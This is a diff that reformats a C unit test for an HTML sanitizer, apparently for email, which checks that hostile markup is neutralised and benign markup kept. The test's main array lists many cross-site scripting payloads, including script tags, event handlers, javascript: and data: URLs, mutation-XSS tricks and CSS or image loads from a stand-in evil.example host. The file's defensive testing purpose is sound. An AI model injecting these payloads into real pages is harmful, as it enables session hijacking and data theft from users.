@@ -18,49 +18,145 @@
 
 // Nothing of these may do more than show text: no element, attribute, address or style beyond the list.
 static const char *const hostile[] = {
-    "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<<script>alert(1)//<</script>", "<script\x0b>alert(1)</script>", "<script/x>alert(1)</script>", "<script>alert(1)",
-    "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>",
-    "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"javascript:alert(1)\">", "<img src=x:x onerror=alert(1)//",
-    "<body onload=alert(1)>", "<div onmouseover=\"alert(1)\">x</div>", "<p onclick=alert(1)>x", "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
-    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<a href=\"//evil.example\">x</a>", "<a href=\"\\\\evil.example\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"/c/token\">x</a>",
-    "<a href=\"blob:https://x/y\">x</a>", "<a href=\"https://ok.example\" ping=\"https://evil.example\" onclick=alert(1)>x</a>",
-    "<form action=https://evil.example><input name=p type=password><button formaction=javascript:alert(1)>go</button></form>",
-    "<input type=image src=x onerror=alert(1)>", "<button onclick=alert(1)>x</button>", "<isindex action=javascript:alert(1) type=image>",
-    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<frameset><frame src=javascript:alert(1)></frameset>",
-    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>", "<embed src=\"x.swf\">", "<applet code=x></applet>", "<portal src=https://evil.example></portal>",
-    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<math href=\"javascript:alert(1)\">x</math>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
-    "<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
-    "<noembed><img title=\"</noembed><img src=1 onerror=alert(1)>\"></noembed>", "<textarea><img src=x onerror=alert(1)></textarea>",
-    "<title><img src=x onerror=alert(1)></title>", "<select><option><script>alert(1)</script></select>", "<style>@import 'https://evil.example/x.css';</style>",
-    "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>", "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<base href=https://evil.example/>",
-    "<div style=\"background:url(https://evil.example/x)\">x</div>", "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
-    "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"wi\\64th:\\65xpression(alert(1))\">x</div>", "<div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px\">x</div>",
-    "<div style=\"margin-top:-900px\">x</div>", "<div style=\"color:red;/*\">x</div>", "<div style=\"behavior:url(x.htc)\">x</div>", "<div style=\"-moz-binding:url(x)\">x</div>",
-    "<div style=\"color:&#117;rl(https://evil.example)\">x</div>", "<div style=\"@import 'x'\">x</div>", "<div style=\"color:var(--x)\">x</div>", "<div style=\"content:attr(href)\">x</div>",
-    "<div style=\"font-family:'x;background:url(https://evil.example)'\">x</div>", "<div style=\"color:red\\;background:url(x)\">x</div>",
-    "<table background=\"https://evil.example/x.png\"><td background=\"javascript:alert(1)\">x</table>", "<bgsound src=https://evil.example>",
-    "<img src=https://evil.example/t.gif width=1 height=1>", "<img srcset=\"https://evil.example/x 1x\" src=\"cid:a\">", "<img src=\"cid:a\" lowsrc=https://evil.example>",
-    "<video poster=https://evil.example/x src=y></video>", "<audio src=https://evil.example/x autoplay></audio>", "<picture><source srcset=https://evil.example/x></picture>",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=\"data:image/png;base64,AAAA\">", "<img src=\"cid:x onerror=alert(1)\">", "<img src='cid:\"><script>alert(1)</script>'>",
-    "<a href='https://x.example/\"><script>alert(1)</script>'>x</a>", "<p title='\"><script>alert(1)</script>'>x</p>", "<p dir='\"><script>'>x</p>", "<p align=\"left onclick=x\">x</p>",
-    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml version=1?><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;", "<html xmlns:x=y><x:script>alert(1)</x:script>", "<o:p onclick=alert(1)>x</o:p>",
-    "<custom-element onclick=alert(1)>x</custom-element>", "<p><custom><p>x</custom></p>", "<a><a><a href=https://x.example>y</a></a></a>", "<table><a href=\"javascript:alert(1)\"><tr><td>x",
-    "<p id=location name=cookie class=admin>x</p>", "<form id=document><input name=cookie></form>", "<dialog open>x</dialog>", "<slot onslotchange=alert(1)>x</slot>",
-    "<marquee onstart=alert(1)>x</marquee>", "<details ontoggle=alert(1) open>x</details>", "<keygen autofocus onfocus=alert(1)>", "<font face=\"x' onclick=alert(1)\">x</font>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "<p>&ltscript&gtalert(1)</p>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "<ul><li><ol><li></ul>x", "<b><i></b></i>", "<p><div></p></div>", "</p></div></body></html><script>alert(1)</script>", "<table><table><tr><tr><td></table>x",
-    "<dd><dt><li><td>x", "<h1><h2></h1>", "<a href=https://x.example><p><a href=https://y.example>z", "<ins><p></ins>", "<pre>\n\n<b>x</pre>", "<br/><br></br>", "<hr/>x</hr>",
-    "<span style=\"display:none\"><script>alert(1)</script>hidden</span>", "<a href=\"https://user:pass@evil.example:99999/%00%0d%0a\">x</a>", "\xEF\xBB\xBF<script>alert(1)</script>",
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1)//<</script>",
+    "<script\x0b>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<script>alert(1)",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    "<img \"\"\"><script>alert(1)</script>\">",
+    "<img src=\"javascript:alert(1)\">",
+    "<img src=x:x onerror=alert(1)//",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"alert(1)\">x</div>",
+    "<p onclick=alert(1)>x",
+    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"\x01javascript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"//evil.example\">x</a>",
+    "<a href=\"\\\\evil.example\">x</a>",
+    "<a href=\"file:///etc/passwd\">x</a>",
+    "<a href=\"/c/token\">x</a>",
+    "<a href=\"blob:https://x/y\">x</a>",
+    "<a href=\"https://ok.example\" ping=\"https://evil.example\" onclick=alert(1)>x</a>",
+    "<form action=https://evil.example><input name=p type=password><button "
+    "formaction=javascript:alert(1)>go</button></form>",
+    "<input type=image src=x onerror=alert(1)>",
+    "<button onclick=alert(1)>x</button>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<frameset><frame src=javascript:alert(1)></frameset>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
+    "<embed src=\"x.swf\">",
+    "<applet code=x></applet>",
+    "<portal src=https://evil.example></portal>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
+    "<noembed><img title=\"</noembed><img src=1 onerror=alert(1)>\"></noembed>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<select><option><script>alert(1)</script></select>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<base href=https://evil.example/>",
+    "<div style=\"background:url(https://evil.example/x)\">x</div>",
+    "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<div style=\"wi\\64th:\\65xpression(alert(1))\">x</div>",
+    "<div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px\">x</div>",
+    "<div style=\"margin-top:-900px\">x</div>",
+    "<div style=\"color:red;/*\">x</div>",
+    "<div style=\"behavior:url(x.htc)\">x</div>",
+    "<div style=\"-moz-binding:url(x)\">x</div>",
+    "<div style=\"color:&#117;rl(https://evil.example)\">x</div>",
+    "<div style=\"@import 'x'\">x</div>",
+    "<div style=\"color:var(--x)\">x</div>",
+    "<div style=\"content:attr(href)\">x</div>",
+    "<div style=\"font-family:'x;background:url(https://evil.example)'\">x</div>",
+    "<div style=\"color:red\\;background:url(x)\">x</div>",
+    "<table background=\"https://evil.example/x.png\"><td background=\"javascript:alert(1)\">x</table>",
+    "<bgsound src=https://evil.example>",
+    "<img src=https://evil.example/t.gif width=1 height=1>",
+    "<img srcset=\"https://evil.example/x 1x\" src=\"cid:a\">",
+    "<img src=\"cid:a\" lowsrc=https://evil.example>",
+    "<video poster=https://evil.example/x src=y></video>",
+    "<audio src=https://evil.example/x autoplay></audio>",
+    "<picture><source srcset=https://evil.example/x></picture>",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<img src=\"data:image/png;base64,AAAA\">",
+    "<img src=\"cid:x onerror=alert(1)\">",
+    "<img src='cid:\"><script>alert(1)</script>'>",
+    "<a href='https://x.example/\"><script>alert(1)</script>'>x</a>",
+    "<p title='\"><script>alert(1)</script>'>x</p>",
+    "<p dir='\"><script>'>x</p>",
+    "<p align=\"left onclick=x\">x</p>",
+    "<!--><script>alert(1)</script>-->",
+    "<!-- --!><script>alert(1)</script>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<?xml version=1?><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
+    "<html xmlns:x=y><x:script>alert(1)</x:script>",
+    "<o:p onclick=alert(1)>x</o:p>",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+    "<p><custom><p>x</custom></p>",
+    "<a><a><a href=https://x.example>y</a></a></a>",
+    "<table><a href=\"javascript:alert(1)\"><tr><td>x",
+    "<p id=location name=cookie class=admin>x</p>",
+    "<form id=document><input name=cookie></form>",
+    "<dialog open>x</dialog>",
+    "<slot onslotchange=alert(1)>x</slot>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<font face=\"x' onclick=alert(1)\">x</font>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<p>&ltscript&gtalert(1)</p>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<ul><li><ol><li></ul>x",
+    "<b><i></b></i>",
+    "<p><div></p></div>",
+    "</p></div></body></html><script>alert(1)</script>",
+    "<table><table><tr><tr><td></table>x",
+    "<dd><dt><li><td>x",
+    "<h1><h2></h1>",
+    "<a href=https://x.example><p><a href=https://y.example>z",
+    "<ins><p></ins>",
+    "<pre>\n\n<b>x</pre>",
+    "<br/><br></br>",
+    "<hr/>x</hr>",
+    "<span style=\"display:none\"><script>alert(1)</script>hidden</span>",
+    "<a href=\"https://user:pass@evil.example:99999/%00%0d%0a\">x</a>",
+    "\xEF\xBB\xBF<script>alert(1)</script>",
 };
 
 struct row {
@@ -68,20 +164,30 @@ struct row {
 };
 
 static const struct row kept[] = {
-    {"<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>", "<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>"},
-    {"<div style=\"direction:rtl;text-align:right;color:#333\">x</div>", "<div style=\"direction: rtl; text-align: right; color: #333\">x</div>"},
+    {"<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>",
+     "<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>"},
+    {"<div style=\"direction:rtl;text-align:right;color:#333\">x</div>",
+     "<div style=\"direction: rtl; text-align: right; color: #333\">x</div>"},
     {"<body dir=rtl><p>x</body>", "<div dir=\"rtl\"><p>x</p></div>"},
     {"<table border=1 cellpadding=2><tr><td colspan=2 bgcolor=#fff valign=top>x</td></tr></table>",
-     "<table border=\"1\" cellpadding=\"2\"><tr><td valign=\"top\" bgcolor=\"#fff\" colspan=\"2\">x</td></tr></table>"},
-    {"<img src=\"cid:pic@x\" alt=\"the fridge\" width=300>", "<img src=\"cid:pic@x\" alt=\"the fridge\" width=\"300\">"},
+     "<table border=\"1\" cellpadding=\"2\"><tr><td valign=\"top\" bgcolor=\"#fff\" "
+     "colspan=\"2\">x</td></tr></table>"},
+    {"<img src=\"cid:pic@x\" alt=\"the fridge\" width=300>",
+     "<img src=\"cid:pic@x\" alt=\"the fridge\" width=\"300\">"},
     {"<img src=\"https://x.example/logo.png\" alt=\"Logo\">", "<img data-blocked=\"1\" alt=\"Logo\">"},
-    {"<a href=\"https://x.example/?a=1&b=2\">x</a>", "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
-    {"<a href=\"mailto:dana@example.com\">x</a>", "<a href=\"mailto:dana@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
-    {"<a href=\"tel:+97245550101\">x</a>", "<a href=\"tel:+97245550101\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
+    {"<a href=\"https://x.example/?a=1&b=2\">x</a>",
+     "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer "
+     "nofollow\">x</a>"},
+    {"<a href=\"mailto:dana@example.com\">x</a>",
+     "<a href=\"mailto:dana@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
+    {"<a href=\"tel:+97245550101\">x</a>",
+     "<a href=\"tel:+97245550101\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
     {"<ol start=3 type=a><li>x</ol>", "<ol start=\"3\" type=\"a\"><li>x</li></ol>"},
-    {"<font color=red size=+1 face=\"Arial, David\">x</font>", "<font color=\"red\" size=\"+1\" face=\"Arial, David\">x</font>"},
+    {"<font color=red size=+1 face=\"Arial, David\">x</font>",
+     "<font color=\"red\" size=\"+1\" face=\"Arial, David\">x</font>"},
     {"a &amp; b &lt; c &quot;d&quot; \xC2\xA0 e", "a &amp; b &lt; c &quot;d&quot; \xC2\xA0 e"},
-    {"<span style=\"font-family:'David',serif;font-size:12pt\">x</span>", "<span style=\"font-family: 'David',serif; font-size: 12pt\">x</span>"},
+    {"<span style=\"font-family:'David',serif;font-size:12pt\">x</span>",
+     "<span style=\"font-family: 'David',serif; font-size: 12pt\">x</span>"},
     {"<blockquote type=cite>x</blockquote>", "<blockquote type=\"cite\">x</blockquote>"},
     {"<p>one<p>two", "<p>one</p><p>two</p>"},
     {"<button>press</button>", "press"},
@@ -100,8 +206,10 @@ static bool letters_until(struct slice s, size_t *at, char name[24])
 {
 	size_t n = 0;
 
-	while (*at < s.len && ((ascii_lower(s.ptr[*at]) >= 'a' && ascii_lower(s.ptr[*at]) <= 'z') || s.ptr[*at] == '-' ||
-			       (n && s.ptr[*at] >= '0' && s.ptr[*at] <= '9')) && n < 23)
+	while (*at < s.len &&
+	       ((ascii_lower(s.ptr[*at]) >= 'a' && ascii_lower(s.ptr[*at]) <= 'z') || s.ptr[*at] == '-' ||
+		(n && s.ptr[*at] >= '0' && s.ptr[*at] <= '9')) &&
+	       n < 23)
 		name[n++] = s.ptr[(*at)++];
 	name[n] = 0;
 	return n > 0;
@@ -118,12 +226,14 @@ static bool in_list(const char *name, const char *const *list)
 static bool value_ok(const char *name, struct slice v)
 {
 	if (strcmp(name, "href") == 0)
-		return ascii_starts(v, S("http://")) || ascii_starts(v, S("https://")) || ascii_starts(v, S("mailto:")) || ascii_starts(v, S("tel:"));
+		return ascii_starts(v, S("http://")) || ascii_starts(v, S("https://")) ||
+		       ascii_starts(v, S("mailto:")) || ascii_starts(v, S("tel:"));
 	if (strcmp(name, "src") == 0)
 		return ascii_starts(v, S("cid:"));
 	if (strcmp(name, "style") == 0)
-		return ascii_seek(v, S("url")) == SIZE_MAX && ascii_seek(v, S("expression")) == SIZE_MAX && ascii_seek(v, S("position")) == SIZE_MAX &&
-		       byte_find(v, '\\') == SIZE_MAX && byte_find(v, '@') == SIZE_MAX;
+		return ascii_seek(v, S("url")) == SIZE_MAX && ascii_seek(v, S("expression")) == SIZE_MAX &&
+		       ascii_seek(v, S("position")) == SIZE_MAX && byte_find(v, '\\') == SIZE_MAX &&
+		       byte_find(v, '@') == SIZE_MAX;
 	return true;
 }
 
@@ -131,13 +241,20 @@ static bool value_ok(const char *name, struct slice v)
 static const char *fault(struct slice s)
 {
 	static const char *const elements[] = {
-	    "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup",
-	    "dd", "del", "div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins",
-	    "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "sup", "table", "tbody",
-	    "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var", "wbr", NULL};
-	static const char *const attributes[] = {"dir", "align", "lang", "title", "style", "href", "target", "rel", "src", "alt", "data-blocked", "width", "height",
-						 "border", "valign", "bgcolor", "colspan", "rowspan", "cellpadding", "cellspacing", "color", "size", "face",
-						 "start", "type", NULL};
+	    "a",	"abbr",	      "address", "article", "aside",  "b",	"bdi",	"bdo",
+	    "big",	"blockquote", "br",	 "caption", "center", "cite",	"code", "col",
+	    "colgroup", "dd",	      "del",	 "div",	    "dl",     "dt",	"em",	"figcaption",
+	    "figure",	"font",	      "footer",	 "h1",	    "h2",     "h3",	"h4",	"h5",
+	    "h6",	"header",     "hr",	 "i",	    "img",    "ins",	"kbd",	"li",
+	    "main",	"mark",	      "nav",	 "ol",	    "p",      "pre",	"q",	"s",
+	    "samp",	"section",    "small",	 "span",    "strike", "strong", "sub",	"sup",
+	    "table",	"tbody",      "td",	 "tfoot",   "th",     "thead",	"tr",	"tt",
+	    "u",	"ul",	      "var",	 "wbr",	    NULL};
+	static const char *const attributes[] = {
+	    "dir",    "align",	 "lang",    "title",	    "style",	   "href",	  "target",
+	    "rel",    "src",	 "alt",	    "data-blocked", "width",	   "height",	  "border",
+	    "valign", "bgcolor", "colspan", "rowspan",	    "cellpadding", "cellspacing", "color",
+	    "size",   "face",	 "start",   "type",	    NULL};
 	char name[24];
 
 	for (size_t i = 0; i < s.len; i++) {
@@ -184,7 +301,8 @@ static void check_clean(struct slice in)
 	assert_true(utf_valid(once.html));
 	twice = html_clean(arena, once.html);
 	if (!slice_eq(once.html, twice.html))
-		print_error("not settled: [%.*s]\n[%.*s]\nof [%.*s]\n", SLICE_ARG(once.html), SLICE_ARG(twice.html), SLICE_ARG(in));
+		print_error("not settled: [%.*s]\n[%.*s]\nof [%.*s]\n", SLICE_ARG(once.html),
+			    SLICE_ARG(twice.html), SLICE_ARG(in));
 	assert_true(slice_eq(once.html, twice.html));
 	arena_reset(arena);
 }
@@ -202,8 +320,10 @@ static void hostile_is_harmless(void **state)
 static void script_text_does_not_show(void **state)
 {
 	(void)state;
-	assert_true(slice_eq(html_clean(arena, S("a<script>alert(1)</script>b<style>x</style>c")).html, S("abc")));
-	assert_true(slice_eq(html_text(arena, S("a<script>alert(1)</script>b<svg><text>x</text></svg>c")).text, S("abc")));
+	assert_true(
+	    slice_eq(html_clean(arena, S("a<script>alert(1)</script>b<style>x</style>c")).html, S("abc")));
+	assert_true(slice_eq(
+	    html_text(arena, S("a<script>alert(1)</script>b<svg><text>x</text></svg>c")).text, S("abc")));
 }
 
 static void harmless_survives(void **state)
@@ -220,7 +340,9 @@ static void harmless_survives(void **state)
 
 static void blocked_pictures_are_counted(void **state)
 {
-	struct html_cleaned c = html_clean(arena, S("<img src=http://a.example/1><img src=cid:x@y><img src=data:image/png;base64,AA><img width=1 src=//t.example>"));
+	struct html_cleaned c =
+	    html_clean(arena, S("<img src=http://a.example/1><img src=cid:x@y><img "
+				"src=data:image/png;base64,AA><img width=1 src=//t.example>"));
 
 	(void)state;
 	assert_int_equal(c.blocked_images, 3);
@@ -257,9 +379,44 @@ static uint32_t next(uint32_t *seed)
 
 static void cleaning_twice_is_cleaning_once(void **state)
 {
-	static const char *const bits[] = {"<p>", "</p>", "<a href=https://x.example>", "<table>", "<td>", "<li>", "<ul>", "<div dir=rtl>", "<b>", "</b>", "<svg>", "<style>",
-					   "</style>", "<!--", "-->", "\"", "'", "<", ">", "&", "&#", "&lt", "<form>", "<font size=2>", "<h1>", "<pre>\n", "<dl><dt>", "<center>",
-					   "<span style='color:red;margin:1px'>", "<body dir=rtl>", "</table>", "<html>", "</body>", "<option>", "<col>", "<img src=cid:a>", "<o:p>", " "};
+	static const char *const bits[] = {"<p>",
+					   "</p>",
+					   "<a href=https://x.example>",
+					   "<table>",
+					   "<td>",
+					   "<li>",
+					   "<ul>",
+					   "<div dir=rtl>",
+					   "<b>",
+					   "</b>",
+					   "<svg>",
+					   "<style>",
+					   "</style>",
+					   "<!--",
+					   "-->",
+					   "\"",
+					   "'",
+					   "<",
+					   ">",
+					   "&",
+					   "&#",
+					   "&lt",
+					   "<form>",
+					   "<font size=2>",
+					   "<h1>",
+					   "<pre>\n",
+					   "<dl><dt>",
+					   "<center>",
+					   "<span style='color:red;margin:1px'>",
+					   "<body dir=rtl>",
+					   "</table>",
+					   "<html>",
+					   "</body>",
+					   "<option>",
+					   "<col>",
+					   "<img src=cid:a>",
+					   "<o:p>",
+					   " "};
 	uint32_t seed = 20261122;
 	const size_t vectors = sizeof hostile / sizeof *hostile;
 
@@ -269,7 +426,8 @@ static void cleaning_twice_is_cleaning_once(void **state)
 		size_t len = 0;
 
 		for (int n = 0; n < 6; n++) {
-			const char *bit = next(&seed) % 3 ? bits[next(&seed) % (sizeof bits / sizeof *bits)] : hostile[next(&seed) % vectors];
+			const char *bit = next(&seed) % 3 ? bits[next(&seed) % (sizeof bits / sizeof *bits)]
+							  : hostile[next(&seed) % vectors];
 			size_t take = strlen(bit);
 
 			if (next(&seed) % 4 == 0)
@@ -286,10 +444,23 @@ static void cleaning_twice_is_cleaning_once(void **state)
 static void styles(void **state)
 {
 	static const struct row rows[] = {
-	    {"color:red", "color: red"}, {" COLOR : Red ; x:y ", "color: Red"}, {"color:rgb(1,2,3)", "color: rgb(1,2,3)"}, {"color:url(x)", ""},
-	    {"margin:-1px", ""}, {"margin:0 -5px", ""}, {"margin:1px 2px", "margin: 1px 2px"}, {"font-family:\"a;b\",c;color:red", "color: red"},
-	    {"color:red;;position:fixed;width:10px", "color: red; width: 10px"}, {"color:red)", ""}, {"background:red", ""}, {"color:rgb(url(x))", ""},
-	    {"color:red /* x */", ""}, {"direction:rtl !important", "direction: rtl !important"}, {"color", ""}, {":red", ""}, {"", ""},
+	    {"color:red", "color: red"},
+	    {" COLOR : Red ; x:y ", "color: Red"},
+	    {"color:rgb(1,2,3)", "color: rgb(1,2,3)"},
+	    {"color:url(x)", ""},
+	    {"margin:-1px", ""},
+	    {"margin:0 -5px", ""},
+	    {"margin:1px 2px", "margin: 1px 2px"},
+	    {"font-family:\"a;b\",c;color:red", "color: red"},
+	    {"color:red;;position:fixed;width:10px", "color: red; width: 10px"},
+	    {"color:red)", ""},
+	    {"background:red", ""},
+	    {"color:rgb(url(x))", ""},
+	    {"color:red /* x */", ""},
+	    {"direction:rtl !important", "direction: rtl !important"},
+	    {"color", ""},
+	    {":red", ""},
+	    {"", ""},
 	};
 
 	(void)state;
@@ -324,8 +495,13 @@ static int teardown(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-	    CASE(hostile_is_harmless), CASE(script_text_does_not_show), CASE(harmless_survives), CASE(blocked_pictures_are_counted),
-	    CASE(depth_and_size_are_capped), CASE(cleaning_twice_is_cleaning_once), CASE(styles),
+	    CASE(hostile_is_harmless),
+	    CASE(script_text_does_not_show),
+	    CASE(harmless_survives),
+	    CASE(blocked_pictures_are_counted),
+	    CASE(depth_and_size_are_capped),
+	    CASE(cleaning_twice_is_cleaning_once),
+	    CASE(styles),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
